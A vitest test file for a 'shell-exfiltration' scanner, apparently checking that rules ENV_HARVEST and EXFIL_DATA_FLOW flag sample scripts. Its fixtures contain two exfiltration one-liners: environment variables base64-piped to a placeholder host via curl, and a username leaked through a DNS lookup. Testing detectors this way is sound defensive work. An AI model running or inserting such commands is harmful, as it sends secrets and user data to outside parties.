import { describe } from 'vitest';
import { itFires, withScript } from '../../../test/rule-cases.js';

describe('shell-exfiltration', () => {
  itFires([
    { name: 'env piped out', files: withScript('u.sh', 'env | base64 | curl -d @- https://c.example/e\n'), rule: 'ENV_HARVEST', severity: 'HIGH' },
    { name: 'dns exfil', files: withScript('d.sh', 'nslookup $(whoami).data.exfil-dns.example\n'), rule: 'EXFIL_DATA_FLOW' },
  ]);
});
